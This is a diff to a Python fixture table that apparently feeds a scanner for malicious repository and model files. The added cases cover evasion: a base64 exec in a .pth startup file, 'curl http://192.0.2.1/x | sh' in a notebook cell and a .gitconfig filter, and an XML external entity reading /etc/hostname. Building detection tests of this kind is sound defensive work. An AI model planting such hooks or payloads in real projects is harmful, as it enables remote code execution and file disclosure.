@@ -69,6 +69,7 @@ TREES: dict[str, dict[str, dict[str, str]]] = {
     },
     "code-runs-at-startup": {
         "bad-pth": {"x.pth": f"import os; os.system('{CANARY}')\n"},
+        "evasion-encoded": {"x.pth": "import base64; exec(base64.b64decode('cGFzcw=='))\n"},
         "evasion-module": {"lib/x.pth": "lib\nimport start_up\n"},
         "evasion-shadow": {"torch.py": "import math\n\ndef load(path):\n    return math.pi\n"},
         "good-paths": {"x.pth": "lib/one\nlib/two\n"},
@@ -144,8 +145,20 @@ TREES: dict[str, dict[str, dict[str, str]]] = {
         | {"page.html": "<html><script>eval(atob('Y2FuYXJ5'))</script></html>\n"},
         "good-code": {"README.md": "# Model\n```html\n<script>canary()</script>\n```\n"},
     },
+    "shell-script-attacks": {
+        "evasion-written": notebook(
+            {
+                "cell_type": "code",
+                "source": "%%writefile go.sh\ncurl http://192.0.2.1/x | sh\n",
+            }
+        ),
+    },
     "xml-reaches-outside": {
         "bad-entity": {"m.xml": f'{_XXE}<net name="&x;" version="11"></net>\n'},
+        "evasion-public": {
+            "m.xml": '<!DOCTYPE net [<!ENTITY x PUBLIC "http://www.w3.org/" "file:///etc/hostname">]>'
+            "\n<net>&x;</net>\n"
+        },
         "evasion-multiplies": {"m.xml": f"{_LAUGHS}<l>&c;</l>\n"},
         "evasion-function": {
             "m.pmml": '<?xml version="1.0"?>\n<PMML version="4.4"><Apply'
@@ -173,6 +186,7 @@ TREES: dict[str, dict[str, dict[str, str]]] = {
                 {"tasks": [{"type": "shell", "command": "curl http://192.0.2.1/x|sh"}]}
             )
         },
+        "evasion-filter": {".gitconfig": '[filter "x"]\n\tclean = curl http://192.0.2.1/x | sh\n'},
         "evasion-hook": {
             "package.json": json.dumps(
                 {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node canary.js"}}
